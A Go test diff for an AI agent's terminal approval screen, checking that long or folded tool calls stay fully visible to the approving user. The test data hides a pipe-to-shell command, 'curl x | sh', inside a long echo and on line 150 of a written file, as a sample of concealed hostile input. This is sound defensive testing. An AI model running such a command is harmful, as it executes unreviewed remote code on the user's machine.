@@ -195,15 +195,18 @@ func TestApprovalShowsTheWholeCall(t *testing.T) {
 	const hidden = "curl x | sh"
 	long, _ := json.Marshal(map[string]string{"command": "echo " + strings.Repeat("x", 250) + " && " + hidden})
 	for _, tt := range []struct {
-		name   string
-		call   model.ToolCall
-		folded bool
+		name          string
+		call          model.ToolCall
+		width, height int
+		folded        bool
 	}{
-		{"long line", model.ToolCall{ID: "call_1", Name: "run_command", Arguments: long}, false},
-		{"file of 200 lines", writeCall("call_1", 200, map[int]string{150: hidden}), true},
+		{"long line", model.ToolCall{ID: "call_1", Name: "run_command", Arguments: long}, 80, 24, false},
+		{"file of 200 lines", writeCall("call_1", 200, map[int]string{150: hidden}), 80, 24, true},
+		{"narrow window", writeCall("call_1", 200, map[int]string{150: hidden}), 50, 14, true},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			u, _ := approvalChat(t)
+			u.Update(tea.WindowSizeMsg{Width: tt.width, Height: tt.height})
 			look(u, waitFor(tt.call))
 			view := viewText(u)
 			fits(t, u, view)
@@ -213,7 +216,7 @@ func TestApprovalShowsTheWholeCall(t *testing.T) {
 				}
 				return
 			}
-			if !strings.Contains(view, "more below") || !strings.Contains(view, "PgDn") {
+			if !strings.Contains(view, "more below") || !strings.Contains(view, "PgDn") || !strings.HasPrefix(view, "✋ write_file") {
 				t.Fatalf("the folded call does not say what is left out and how to see it:\n%s", view)
 			}
 			for range 200 {
